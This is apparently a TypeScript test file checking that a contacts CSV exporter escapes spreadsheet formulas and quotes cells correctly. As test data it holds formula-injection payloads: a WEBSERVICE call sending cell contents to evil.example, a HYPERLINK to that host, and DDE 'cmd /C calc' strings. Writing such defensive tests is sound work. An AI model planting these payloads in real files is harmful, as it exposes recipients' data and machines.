import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import type { ContactItem } from "@/lib/contacts/contact-item";
import { csvContentType, defuseFormulas, toCsvLine } from "@/lib/contacts/csv-cells";
import { csvFormats, csvFormatOf, csvWriters } from "@/lib/contacts/csv-format";
import { emptyContact } from "@/test/contact-items";

describe("toCsvLine", () => {
  it('quotes a cell holding a quote, a comma, a semicolon, a tab or a line break, doubling its quotes', () => {
    expect(toCsvLine(["plain", 'say "hi"', "a,b", "a;b", "a\tb", "a\nb", "a\rb", ""])).toBe('plain,"say ""hi""","a,b","a;b","a\tb","a\nb","a\rb",\r\n');
  });
});

describe("csvContentType", () => {
  it("says UTF-8 CSV with a header row (RFC 4180)", () => {
    expect(csvContentType).toBe("text/csv; charset=utf-8; header=present");
  });
});

describe("defuseFormulas", () => {
  it.each<[string, string]>([
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t'=1+1"],
    ["\r\n=1+1", "'\r\n'=1+1"],
    ["Ann;=WEBSERVICE(\"https://evil.example/?\"&A1)", "Ann;'=WEBSERVICE(\"https://evil.example/?\"&A1)"],
    ["x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
    ["x,+cmd", "x,'+cmd"],
    ["x\t-2+3", "x\t'-2+3"],
    ["x\n@SUM(1)", "x\n'@SUM(1)"],
    ["x;;=1", "x;;'=1"],
    ["a; =1", "a; =1"],
    // A cell starting with a comma or semicolon is text in every locale: nothing to defuse.
    [",x", ",x"],
    [";x", ";x"],
    ["Ana =1 @x -2 +3", "Ana =1 @x -2 +3"],
    ["", ""],
  ])("defuses %j wherever a cell can start", (value, expected) => {
    expect(defuseFormulas(value)).toBe(expected);
  });

  it("leaves number-only parts alone when asked to, and defuses everything else the same", () => {
    const keep = (value: string) => defuseFormulas(value, { keepNumbers: true });
    expect(keep("+34 612 34 56 78")).toBe("+34 612 34 56 78");
    expect(keep("+1 (415) 555-0100")).toBe("+1 (415) 555-0100");
    expect(keep("-1")).toBe("-1");
    expect(keep("a;+34612345678")).toBe("a;+34612345678");
    expect(keep("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(keep("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(keep("+91 9XXXXXX 987")).toBe("'+91 9XXXXXX 987");
    expect(keep("=1+1")).toBe("'=1+1");
    expect(keep("+")).toBe("'+");
    expect(keep("x;=1")).toBe("x;'=1");
    // Only number characters after the first digit, spaces included.
    expect(keep("+1abc")).toBe("'+1abc");
    expect(keep("+1 2 ")).toBe("+1 2 ");
  });
});

describe("every CSV format, opened by a spreadsheet in any locale (security review item 7)", () => {
  const attacks = [
    'Ann;=WEBSERVICE("https://evil.example/?"&A1)',
    "x\t=HYPERLINK(\"https://evil.example\",\"Click\")",
    "x,+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "line\n=1+1",
    '";=1+1',
  ];
  const evilContact = (attack: string): ContactItem => ({
    ...emptyContact,
    name: { formatted: attack, first: attack, middle: attack, last: attack, prefix: attack, suffix: attack },
    phones: [
      { phone: attack, waId: attack, type: attack, e164: null },
      { phone: "+34 612 34 56 78", waId: "34612345678", type: "CELL", e164: "+34612345678" },
    ],
    emails: [{ email: attack, type: attack }],
    addresses: [{ street: attack, city: attack, state: attack, zip: attack, country: attack, countryCode: attack, type: attack }],
    org: { company: attack, department: attack, title: attack },
    urls: [{ url: `https://ok.example/${attack}`, type: attack }],
    birthday: attack,
    sender: { waId: attack, profileName: attack, userId: null },
    business: { displayPhoneNumber: attack, phoneNumberId: attack, wabaId: attack },
    refs: { ref: attack, ref1: attack, ref2: attack },
    replyTo: attack,
    traceId: attack,
    messageId: attack,
  });

  /** The cells a spreadsheet shows when it splits lines at `delimiter` and honours quotes only at a cell's start, as Excel does. */
  function cellsSeenWith(delimiter: string, text: string): string[] {
    const rows: string[][] = parse(text, { delimiter, relax_quotes: true, relax_column_count: true, record_delimiter: ["\r\n", "\n", "\r"] });
    return rows.flat();
  }

  it.each(csvFormats)("never shows a cell that starts a formula (%s)", (format) => {
    const writer = csvWriters[format];
    for (const attack of attacks) {
      const line = writer.row(evilContact(attack));
      for (const delimiter of [",", ";", "\t"]) {
        for (const cell of cellsSeenWith(delimiter, writer.header() + line)) {
          // Google's and Outlook's files keep phone numbers as they are (a number runs nothing).
          if (format !== "spreadsheet" && /^[+-][\d\s().\/-]*$/.test(cell)) continue;
          expect(cell, `${format}, split at ${JSON.stringify(delimiter)}`).not.toMatch(/^[=+\-@]/);
        }
      }
    }
  });

  it.each(csvFormats)("quotes every cell holding ; or a tab, so it stays one cell (%s)", (format) => {
    const writer = csvWriters[format];
    const line = writer.row(evilContact("Ann;x\ty"));
    const cells: string[][] = parse(line, { relax_column_count: true });
    expect(cells[0]!.some((cell) => cell.includes("Ann;x"))).toBe(true);
    expect(rawFields(line).filter((field) => /[;\t]/.test(field) && !field.startsWith('"'))).toEqual([]);
  });
});

/** The fields of one CSV line exactly as written (quotes included), split at the commas outside quotes. */
function rawFields(line: string): string[] {
  const fields: string[] = [];
  let field = "";
  let quoted = false;
  for (const char of line.replace(/\r\n$/, "")) {
    if (char === '"') quoted = !quoted;
    if (char === "," && !quoted) {
      fields.push(field);
      field = "";
    } else field += char;
  }
  return [...fields, field];
}

describe("csvFormatOf", () => {
  it("reads ?format=, spreadsheet by default, and answers an issue for anything else", () => {
    expect(csvFormatOf(new URLSearchParams(""))).toEqual({ ok: true, format: "spreadsheet" });
    expect(csvFormatOf(new URLSearchParams("format="))).toEqual({ ok: true, format: "spreadsheet" });
    expect(csvFormatOf(new URLSearchParams("format=google"))).toEqual({ ok: true, format: "google" });
    expect(csvFormatOf(new URLSearchParams("format=outlook"))).toEqual({ ok: true, format: "outlook" });
    expect(csvFormatOf(new URLSearchParams("format=excel"))).toEqual({ ok: false, issues: [{ path: "format", message: 'must be one of "spreadsheet", "google", "outlook"' }] });
  });
});
